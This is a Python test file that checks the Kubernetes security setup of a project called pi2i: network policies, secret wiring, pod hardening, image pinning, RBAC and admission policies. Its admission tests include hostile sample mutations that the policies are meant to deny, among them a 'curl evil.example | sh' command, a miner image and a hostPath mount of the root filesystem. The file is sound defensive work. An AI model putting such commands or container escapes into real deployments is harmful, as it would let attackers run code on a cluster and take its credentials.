"""k8s/ security properties (issue 15), asserted on the rendered overlays (``kubectl kustomize``, else the
subset renderer of test_k8s) and on the RayJob templates:

* NetworkPolicy: default-deny plus exactly the flows the system needs, checked by evaluating the policies'
  semantics (pod/namespace selectors, ipBlocks, ports) for concrete flows, allowed and denied;
* Redis requires a password from a Secret, and every client reads it from the same Secret key;
* every pod: non-root, seccomp RuntimeDefault, read-only root, no privilege escalation, all capabilities
  dropped, a sized /tmp; no secret given as a literal;
* third-party images pinned by digest, no ``:latest``;
* RBAC: no wildcards, RayJob verbs separated, nothing on secrets or pods/exec.
"""

from __future__ import annotations

import copy
import ipaddress
import re
import shutil
import subprocess
from typing import Any

import pytest
from test_k8s import K8S, by_kind, render

FIRST_PARTY = "ghcr.io/pi2i/"
DIGEST_RE = re.compile(r"@sha256:[0-9a-f]{64}$")
ENVS = ["overlays/dev", "overlays/prod"]


@pytest.fixture(scope="module", params=ENVS)
def objs(request) -> list[dict]:
    return render(request.param)


def _pods(objs: list[dict]) -> list[tuple[str, dict]]:
    return [(o["metadata"]["name"], o["spec"]["template"]) for o in objs if o["kind"] == "Deployment"]


# ----------------------------------------------------------------------------------- NetworkPolicy semantics
# A pod is (namespace, labels); a flow is src -> dst on (protocol, port). A flow is allowed when the source's
# egress and the destination's ingress both allow it; a direction is unrestricted when no policy of the pod's
# namespace selects the pod for it (Kubernetes semantics). External endpoints are IPs.

Pod = tuple[str, dict[str, str]]
NS_LABELS = {"pi2i": {"kubernetes.io/metadata.name": "pi2i"},
             "pi2i-dev": {"kubernetes.io/metadata.name": "pi2i-dev"},
             "kube-system": {"kubernetes.io/metadata.name": "kube-system"},
             "kuberay": {"kubernetes.io/metadata.name": "kuberay"},
             "kubeflow": {"kubernetes.io/metadata.name": "kubeflow"},
             "elsewhere": {"kubernetes.io/metadata.name": "elsewhere"}}


def _selects(sel: dict | None, labels: dict[str, str]) -> bool:
    if sel is None:
        return False
    for k, v in (sel.get("matchLabels") or {}).items():
        if labels.get(k) != v:
            return False
    for e in sel.get("matchExpressions") or []:
        k, op, vals = e["key"], e["operator"], e.get("values", [])
        if (op == "In" and labels.get(k) not in vals) or (op == "NotIn" and labels.get(k) in vals) \
                or (op == "Exists" and k not in labels) or (op == "DoesNotExist" and k in labels):
            return False
    return True


def _peer_matches(peer: dict, policy_ns: str, other: Pod | str) -> bool:
    if "ipBlock" in peer:
        if not isinstance(other, str):
            return False  # pod IPs are treated as pods here, never as ipBlocks
        ip = ipaddress.ip_address(other)
        blk = peer["ipBlock"]
        return ip in ipaddress.ip_network(blk["cidr"]) and not any(
            ip in ipaddress.ip_network(x) for x in blk.get("except", []))
    if isinstance(other, str):
        return False
    ns, labels = other
    ns_ok = _selects(peer["namespaceSelector"], NS_LABELS[ns]) if "namespaceSelector" in peer else ns == policy_ns
    pod_ok = _selects(peer["podSelector"], labels) if "podSelector" in peer else True
    return ns_ok and pod_ok


def _port_matches(rule: dict, proto: str, port: int, dst: Pod | str, objs: list[dict]) -> bool:
    if not rule.get("ports"):
        return True
    for p in rule["ports"]:
        if p.get("protocol", "TCP") != proto:
            continue
        want = p.get("port")
        if want is None or want == port:
            return True
        if isinstance(want, str) and not isinstance(dst, str):  # a named port of the destination pod
            for _, tmpl in _pods(objs):
                if _selects({"matchLabels": tmpl["metadata"]["labels"]}, dst[1]):
                    for c in tmpl["spec"]["containers"]:
                        if any(cp.get("name") == want and cp["containerPort"] == port for cp in c.get("ports", [])):
                            return True
    return False


def _direction_allows(objs: list[dict], pod: Pod, direction: str, other: Pod | str, proto: str, port: int,
                      dst: Pod | str) -> bool:
    ptype = direction.capitalize()
    policies = [p for p in by_kind(objs, "NetworkPolicy") if p["metadata"]["namespace"] == pod[0]
                and ptype in p["spec"].get("policyTypes", ["Ingress"]) and _selects(p["spec"]["podSelector"], pod[1])]
    if not policies:
        return True
    key = "from" if direction == "ingress" else "to"
    for pol in policies:
        for rule in pol["spec"].get(direction, []) or []:
            peers = rule.get(key)
            if (not peers or any(_peer_matches(pe, pod[0], other) for pe in peers)) \
                    and _port_matches(rule, proto, port, dst, objs):
                return True
    return False


def allowed(objs: list[dict], src: Pod | str, dst: Pod | str, port: int, proto: str = "TCP") -> bool:
    ns = {o["metadata"]["namespace"] for o in by_kind(objs, "NetworkPolicy")}
    out = isinstance(src, str) or src[0] not in ns or _direction_allows(objs, src, "egress", dst, proto, port, dst)
    inn = isinstance(dst, str) or dst[0] not in ns or _direction_allows(objs, dst, "ingress", src, proto, port, dst)
    return out and inn


def _ns(objs: list[dict]) -> str:
    return by_kind(objs, "Namespace")[0]["metadata"]["name"]


def _labels(objs: list[dict], deployment: str) -> dict[str, str]:
    return by_kind(objs, "Deployment", deployment)[0]["spec"]["template"]["metadata"]["labels"]


def test_prod_overlay_contains_network_policies_contract():
    """The issue's contract, called as written: `kubectl kustomize k8s/overlays/prod` contains a NetworkPolicy."""
    kubectl = shutil.which("kubectl")
    if kubectl is None:
        pytest.skip("kubectl not installed")
    out = subprocess.run([kubectl, "kustomize", str(K8S / "overlays/prod")], capture_output=True, text=True,
                         timeout=60, check=True).stdout
    assert "kind: NetworkPolicy" in out


def test_namespace_is_default_deny(objs):
    deny = [p for p in by_kind(objs, "NetworkPolicy") if p["spec"]["podSelector"] == {}
            and set(p["spec"]["policyTypes"]) == {"Ingress", "Egress"}
            and not p["spec"].get("ingress") and not p["spec"].get("egress")]
    assert deny, "no default-deny NetworkPolicy"
    ns = _ns(objs)
    stranger: Pod = (ns, {"app": "something-else"})
    assert not allowed(objs, stranger, "93.184.216.34", 443)
    assert not allowed(objs, stranger, (ns, _labels(objs, "pi2i-serving")), 9090)


def test_network_flows_the_system_needs_and_no_more(objs):
    ns = _ns(objs)
    serving: Pod = (ns, _labels(objs, "pi2i-serving"))
    redis: Pod = (ns, _labels(objs, "pi2i-redis"))
    head: Pod = (ns, {"ray.io/is-ray-node": "yes", "ray.io/node-type": "head", "ray.io/cluster": "c1"})
    worker: Pod = (ns, {"ray.io/is-ray-node": "yes", "ray.io/node-type": "worker", "ray.io/cluster": "c1"})
    submitter: Pod = (ns, {"batch.kubernetes.io/job-name": "pi2i-swing-run1", "job-name": "pi2i-swing-run1"})
    step: Pod = (ns, {"pipelines.kubeflow.org/v2_component": "true"})
    stranger: Pod = (ns, {"app": "debug"})
    operator: Pod = ("kuberay", {"app.kubernetes.io/name": "kuberay-operator"})
    dns: Pod = ("kube-system", {"k8s-app": "kube-dns"})
    serving_port = next(p["containerPort"] for c in by_kind(objs, "Deployment", "pi2i-serving")[0]["spec"]
                        ["template"]["spec"]["containers"] for p in c["ports"] if p["name"] == "http")
    # serving: reachable on its port from anywhere (clients, ingress controller, Prometheus), nothing else
    assert allowed(objs, "10.1.2.3", serving, serving_port)
    assert allowed(objs, ("elsewhere", {"app": "ingress-nginx"}), serving, serving_port)
    assert not allowed(objs, "10.1.2.3", serving, 22)
    # redis: serving and pipeline steps only
    assert allowed(objs, serving, redis, 6379)
    assert allowed(objs, step, redis, 6379)
    for other in (stranger, worker, head, submitter, ("elsewhere", {"app.kubernetes.io/name": "pi2i-serving"})):
        assert not allowed(objs, other, redis, 6379), other
    # object store: serving, Ray pods and pipeline steps, never the cloud metadata endpoint
    for pod in (serving, head, worker, step):
        assert allowed(objs, pod, "52.216.0.1", 443), pod
        assert not allowed(objs, pod, "169.254.169.254", 443), pod
        assert not allowed(objs, pod, "52.216.0.1", 25), pod
    assert not allowed(objs, redis, "52.216.0.1", 443)
    # Ray: head <-> workers on any port (GCS, raylet, object manager), nobody else in
    for port in (6379, 8076, 10002, 45123):
        assert allowed(objs, worker, head, port) and allowed(objs, head, worker, port)
    assert not allowed(objs, stranger, head, 6379) and not allowed(objs, serving, worker, 10002)
    # the Jobs API (code execution with the pod's credentials): the KubeRay operator and the submitter only
    assert allowed(objs, operator, head, 8265) and allowed(objs, submitter, head, 8265)
    for other in (stranger, serving, step, ("elsewhere", {"app": "x"}), "10.1.2.3"):
        assert not allowed(objs, other, head, 8265), other
    assert not allowed(objs, operator, head, 10001)  # Ray Client stays closed
    assert not allowed(objs, head, serving, serving_port) and not allowed(objs, worker, redis, 6379)
    # the pipeline reaches the Kubernetes API and the KFP control plane
    assert allowed(objs, step, "10.96.0.1", 443) and allowed(objs, step, ("kubeflow", {"app": "ml-pipeline"}), 8887)
    # KFP's per-profile services serve the KFP UI and read the artifact store; nothing else reaches them
    ui_artifact: Pod = (ns, {"app": "ml-pipeline-ui-artifact"})
    assert allowed(objs, ("kubeflow", {"app": "ml-pipeline-ui"}), ui_artifact, 3000)
    assert allowed(objs, ui_artifact, "52.216.0.1", 443) and not allowed(objs, stranger, ui_artifact, 3000)
    # DNS for everyone
    for pod in (serving, redis, head, worker, step, submitter, stranger):
        assert allowed(objs, pod, dns, 53, "UDP") and allowed(objs, pod, dns, 53, "TCP")


# ------------------------------------------------------------------------------------------- secrets wiring

def _env(container: dict) -> dict[str, dict]:
    return {e["name"]: e for e in container.get("env", [])}


def _secret_ref(e: dict) -> tuple[str, str] | None:
    ref = e.get("valueFrom", {}).get("secretKeyRef")
    return (ref["name"], ref["key"]) if ref else None


def test_redis_requires_a_password_from_a_secret_shared_with_its_clients(objs):
    (redis,) = by_kind(objs, "Deployment", "pi2i-redis")[0]["spec"]["template"]["spec"]["containers"]
    args = redis["args"]
    assert args[args.index("--requirepass") + 1] == "$(REDIS_PASSWORD)"  # expanded by the kubelet from env
    ref = _secret_ref(_env(redis)["REDIS_PASSWORD"])
    assert ref is not None and _secret_ref(_env(redis)["REDISCLI_AUTH"]) == ref  # the probe's redis-cli
    assert redis["readinessProbe"]["exec"]["command"] == ["redis-cli", "ping"]
    (serving,) = by_kind(objs, "Deployment", "pi2i-serving")[0]["spec"]["template"]["spec"]["containers"]
    env = _env(serving)
    assert _secret_ref(env["REDIS_PASSWORD"]) == ref
    assert _secret_ref(env["PI2I_ADMIN_TOKEN"]) == ("pi2i-serving-auth", "admin-token")
    for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):  # object-store credentials, declared key by key
        assert _secret_ref(env[key]) == ("pi2i-object-store", key)
        assert env[key]["valueFrom"]["secretKeyRef"].get("optional") is not True


def test_no_secret_is_a_literal_and_secrets_are_not_in_config(objs):
    sensitive = re.compile(r"PASSWORD|TOKEN|SECRET|ACCESS_KEY|AUTH", re.IGNORECASE)
    for name, tmpl in _pods(objs):
        for c in tmpl["spec"]["containers"]:
            for e in c.get("env", []):
                if sensitive.search(e["name"]):
                    assert "value" not in e and _secret_ref(e), (name, e)
    for cm in by_kind(objs, "ConfigMap"):
        assert not any(sensitive.search(k) for k in cm.get("data", {})), cm["data"]
        assert not any(re.search(r"://[^/@]+:[^/@]+@", str(v)) for v in cm.get("data", {}).values())


# ----------------------------------------------------------------------------------------- pod hardening

def _check_pod(where: str, spec: dict, token_off_in_sa: bool = False) -> None:
    pod_sc = spec.get("securityContext", {})
    assert spec.get("automountServiceAccountToken") is False or token_off_in_sa, f"{where}: API token mounted"
    for c in spec["containers"] + spec.get("initContainers", []):
        sc = c.get("securityContext", {})
        what = f"{where}/{c['name']}"
        assert sc.get("runAsNonRoot", pod_sc.get("runAsNonRoot")) is True, what
        assert (sc.get("seccompProfile") or pod_sc.get("seccompProfile") or {}).get("type") == "RuntimeDefault", what
        assert sc.get("readOnlyRootFilesystem") is True, what
        assert sc.get("allowPrivilegeEscalation") is False, what
        assert sc.get("privileged") is not True, what
        assert sc.get("capabilities", {}).get("drop") == ["ALL"] and not sc["capabilities"].get("add"), what
        assert {"cpu", "memory"} <= set(c["resources"]["limits"]), what
        tmp = [m for m in c.get("volumeMounts", []) if m["mountPath"] == "/tmp"]
        if tmp:  # a writable /tmp on a read-only root must be bounded
            (vol,) = [v for v in spec["volumes"] if v["name"] == tmp[0]["name"]]
            assert vol.get("emptyDir", {}).get("sizeLimit"), what
    for v in spec.get("volumes", []):
        assert "hostPath" not in v, where
        if "emptyDir" in v:
            assert v["emptyDir"].get("sizeLimit"), f"{where}: emptyDir {v['name']} has no sizeLimit"
    assert not (spec.get("hostNetwork") or spec.get("hostPID") or spec.get("hostIPC")), where


def test_every_pod_is_hardened(objs):
    for name, tmpl in _pods(objs):
        _check_pod(name, tmpl["spec"])


def test_namespace_enforces_pod_security_standards(objs):
    labels = by_kind(objs, "Namespace")[0]["metadata"]["labels"]
    assert labels["pod-security.kubernetes.io/enforce"] in ("baseline", "restricted")
    assert labels["pod-security.kubernetes.io/warn"] == labels["pod-security.kubernetes.io/audit"] == "restricted"


def test_third_party_images_are_pinned_by_digest(objs):
    images = [c["image"] for _, t in _pods(objs) for c in t["spec"]["containers"] + t["spec"].get("initContainers", [])]
    assert any(not i.startswith(FIRST_PARTY) for i in images)  # there is a third-party image to check (redis)
    for image in images:
        assert not image.endswith(":latest") and ":" in image.split("/")[-1], image
        if not image.startswith(FIRST_PARTY):
            assert DIGEST_RE.search(image), f"third-party image not pinned by digest: {image}"


# ------------------------------------------------------------------------------------------------------ RBAC

def test_rbac_has_no_wildcards_no_secrets_and_separate_rayjob_verbs(objs):
    for role in by_kind(objs, "Role") + by_kind(objs, "ClusterRole"):
        for rule in role["rules"]:
            assert "*" not in rule["verbs"] and "*" not in rule["resources"] and "*" not in rule["apiGroups"], rule
            assert not {"secrets", "pods/exec", "pods/attach", "pods/portforward", "serviceaccounts/token"} \
                & set(rule["resources"]), rule
            assert not {"escalate", "bind", "impersonate", "deletecollection"} & set(rule["verbs"]), rule
            if rule["resources"] == ["rayjobs"]:
                assert len(rule["verbs"]) == len(set(rule["verbs"])) and (
                    rule["verbs"] in (["create"], ["delete"]) or set(rule["verbs"]) <= {"get", "list", "watch"}), rule
            if "pods" in rule["resources"] or "deployments" in rule["resources"]:
                assert "create" not in rule["verbs"], rule
    role = by_kind(objs, "Role", "pi2i-deployer")[0]
    verbs = {v for r in role["rules"] if r["resources"] == ["rayjobs"] for v in r["verbs"]}
    assert verbs == {"create", "get", "list", "watch", "delete"}  # what pi2i.cluster.rayjob needs, nothing more


# ------------------------------------------------------------------------- admission policy for RayJobs (CEL)
RUNNER = "system:serviceaccount:{ns}:pi2i-pipeline-runner"
RAYJOB_GUARD, DEPLOY_GUARD = "pi2i-rayjob-guard", "pi2i-deploy-guard"


def _cel(expr: str, activation: dict) -> Any:
    import celpy

    env = celpy.Environment()
    return env.program(env.compile(expr)).evaluate(activation)


def admit(objs: list[dict], policy_name: str, obj: dict, username: str, old: dict | None = None
          ) -> list[str] | None:
    """Evaluate a ValidatingAdmissionPolicy of k8s/ like the API server: None when it does not apply to the
    request (binding's namespace selector, matchConditions), else the messages of the validations that deny
    it ([] = admitted; an evaluation error denies, as failurePolicy Fail does)."""
    import celpy

    ns = _ns(objs)
    (policy,) = by_kind(objs, "ValidatingAdmissionPolicy", policy_name)
    (binding,) = [b for b in by_kind(objs, "ValidatingAdmissionPolicyBinding")
                  if b["spec"]["policyName"] == policy_name]
    if not _selects(binding["spec"]["matchResources"]["namespaceSelector"],
                    by_kind(objs, "Namespace")[0]["metadata"]["labels"]):
        return None
    assert binding["spec"]["validationActions"] == ["Deny"] and policy["spec"]["failurePolicy"] == "Fail"
    as_map = lambda d: celpy.celtypes.MapType({celpy.celtypes.StringType(k): v for k, v in d.items()})
    act: dict[str, Any] = {"object": celpy.json_to_cel(obj), "oldObject": celpy.json_to_cel(old),
                           "request": celpy.json_to_cel({"userInfo": {"username": username}, "namespace": ns,
                                                         "operation": "UPDATE" if old else "CREATE"})}
    true = lambda v: isinstance(v, celpy.celtypes.BoolType) and bool(v)
    if not all(true(_cel(mc["expression"], act)) for mc in policy["spec"]["matchConditions"]):
        return None
    variables: dict[str, Any] = {}
    for v in policy["spec"].get("variables", []):
        variables[v["name"]] = _cel(v["expression"], {**act, "variables": as_map(variables)})
    act["variables"] = as_map(variables)
    denied = []
    for rule in policy["spec"]["validations"]:
        try:
            ok = _cel(rule["expression"], act)
        except Exception:  # noqa: BLE001 - a CEL evaluation error fails closed (failurePolicy: Fail)
            ok = None
        if not true(ok):
            denied.append(rule["message"])
    return denied


def _pipeline_rayjobs(ns: str) -> list[dict]:
    """The RayJobs the pipeline creates: the committed templates (as `kubectl kustomize k8s/rayjobs` renders
    them) and the builder's output for every step."""
    from components.image import PINNED_IMAGE
    from pi2i.cluster import rayjob

    out = render("../k8s/rayjobs") if (K8S / "rayjobs" / "kustomization.yaml").exists() else []
    out += [rayjob.template(step, PINNED_IMAGE) for step in rayjob.TEMPLATE_ENTRYPOINTS]
    for rj in out:
        rj["metadata"]["namespace"] = ns
    return out


def test_admission_policy_admits_the_pipelines_rayjobs_and_denies_escapes(objs):
    ns = _ns(objs)
    runner = RUNNER.format(ns=ns)
    jobs = _pipeline_rayjobs(ns)
    assert len(jobs) >= 3
    for rj in jobs:
        assert admit(objs, RAYJOB_GUARD, rj, runner) == [], rj["metadata"]["name"]
    base = jobs[0]
    head = lambda rj: rj["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    worker = lambda rj: rj["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]

    def mutated(change) -> dict:
        rj = copy.deepcopy(base)
        change(rj)
        return rj

    escapes = {
        "own RayCluster": lambda rj: rj["spec"].__setitem__("clusterSelector", {"ray.io/cluster": "someone-else"}),
        "pi2i-ray ServiceAccount": lambda rj: worker(rj).__setitem__("serviceAccountName", "default"),
        "pi2i image": lambda rj: head(rj)["containers"][0].__setitem__("image", "evil.example/miner:1"),
        "non-root": lambda rj: worker(rj)["containers"][0]["securityContext"].__setitem__("privileged", True),
        "host namespaces": lambda rj: head(rj).__setitem__("hostNetwork", True),
        "read-only root": lambda rj: worker(rj)["containers"][0]["securityContext"].__setitem__(
            "readOnlyRootFilesystem", False),
    }
    for needle, change in escapes.items():
        denied = admit(objs, RAYJOB_GUARD, mutated(change), runner)
        assert denied is not None and len(denied) == 1 and needle in denied[0], (needle, denied)  # that rule only
    hostpath = mutated(lambda rj: worker(rj)["volumes"].append({"name": "h", "hostPath": {"path": "/"}}))
    (msg,) = admit(objs, RAYJOB_GUARD, hostpath, runner)
    assert "hostPath" in msg
    sidecar = mutated(lambda rj: worker(rj)["containers"].append(
        {"name": "x", "image": "ghcr.io/pi2i/pi2i:0.1.0", "securityContext": {"runAsNonRoot": True}}))
    denied = admit(objs, RAYJOB_GUARD, sidecar, runner)  # no allowPrivilegeEscalation: false, writable root
    assert denied is not None and len(denied) == 2 and "non-root" in denied[0] and "read-only" in denied[1]
    # other identities (cluster admins, the KubeRay operator's updates) are not this policy's business
    assert admit(objs, RAYJOB_GUARD, mutated(escapes["pi2i image"]), "kubernetes-admin") is None
    assert admit(objs, RAYJOB_GUARD, base, RUNNER.format(ns="other")) is None


def test_rayjob_pods_are_hardened():
    """Ray head/worker pods (k8s/rayjobs templates and pi2i.cluster.rayjob): the same hardening as serving,
    plus the pi2i-ray ServiceAccount whose token is never mounted (rbac.yaml)."""
    sa = {o["metadata"]["name"]: o for o in by_kind(render("base"), "ServiceAccount")}
    assert sa["pi2i-ray"]["automountServiceAccountToken"] is False
    for rj in _pipeline_rayjobs("pi2i"):
        rc = rj["spec"]["rayClusterSpec"]
        groups = [("head", rc["headGroupSpec"])] + [(g["groupName"], g) for g in rc.get("workerGroupSpecs", [])]
        for group, g in groups:
            spec = g["template"]["spec"]
            assert spec["serviceAccountName"] == "pi2i-ray"
            _check_pod(f"{rj['metadata']['name']}/{group}", spec, token_off_in_sa=True)


def _strategic_merge(dep: dict, patch: dict) -> dict:
    """What the API server makes of pi2i.cluster.rollout's strategic-merge patch (maps merge, containers and
    env merge by name) — enough to produce the UPDATE the deploy guard sees."""
    def merge(a: Any, b: Any) -> Any:
        if isinstance(a, dict) and isinstance(b, dict):
            return {**a, **{k: merge(a[k], v) if k in a else v for k, v in b.items()}}
        if isinstance(a, list) and isinstance(b, list) and all(isinstance(x, dict) and "name" in x for x in a + b):
            out = [dict(x) for x in a]
            for item in b:
                hit = [i for i, x in enumerate(out) if x["name"] == item["name"]]
                if hit:
                    out[hit[0]] = merge(out[hit[0]], item)
                else:
                    out.append(item)
            return out
        return b
    return merge(dep, patch)


def test_admission_policy_lets_the_deploy_step_move_the_version_only(objs):
    from pi2i.cluster import rollout

    runner = RUNNER.format(ns=_ns(objs))
    dep = by_kind(objs, "Deployment", "pi2i-serving")[0]
    moved = _strategic_merge(dep, rollout.version_patch("v20261201-030000-1a2b3c4d", "serving"))
    assert moved != dep and rollout.deployed_version(moved, "serving") == "v20261201-030000-1a2b3c4d"
    assert admit(objs, DEPLOY_GUARD, moved, runner, old=dep) == []
    again = _strategic_merge(moved, rollout.version_patch("v20261202-030000-5e6f7a8b", "serving"))
    assert admit(objs, DEPLOY_GUARD, again, runner, old=moved) == []  # and back (rollback)
    c0 = lambda d: d["spec"]["template"]["spec"]["containers"][0]
    escapes = {
        "image": lambda d: c0(d).__setitem__("image", "evil.example/serving:1"),
        "command": lambda d: c0(d).__setitem__("args", ["sh", "-c", "curl evil.example | sh"]),
        "env": lambda d: c0(d)["env"].append({"name": "LD_PRELOAD", "value": "/tmp/x.so"}),
        "secret": lambda d: c0(d).__setitem__("env", [e if e["name"] != "PI2I_ADMIN_TOKEN" else
                                                    {"name": e["name"], "value": "known"} for e in c0(d)["env"]]),
        "volume": lambda d: d["spec"]["template"]["spec"]["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
        "sidecar": lambda d: d["spec"]["template"]["spec"]["containers"].append(
            {"name": "x", "image": "ghcr.io/pi2i/pi2i:0.1.0"}),
        "security": lambda d: c0(d)["securityContext"].__setitem__("readOnlyRootFilesystem", False),
        "account": lambda d: d["spec"]["template"]["spec"].__setitem__("serviceAccountName", "pi2i-pipeline-runner"),
        "annotation": lambda d: d["spec"]["template"]["metadata"].setdefault("annotations", {}).__setitem__(
            "container.apparmor.security.beta.kubernetes.io/serving", "unconfined"),
    }
    for what, change in escapes.items():
        bad = copy.deepcopy(moved)
        change(bad)
        denied = admit(objs, DEPLOY_GUARD, bad, runner, old=dep)
        assert denied is not None and len(denied) == 1, (what, denied)  # exactly the rule that guards it
    bad = copy.deepcopy(moved)
    escapes["image"](bad)
    assert admit(objs, DEPLOY_GUARD, bad, "kubernetes-admin", old=dep) is None  # humans apply k8s/ as they like
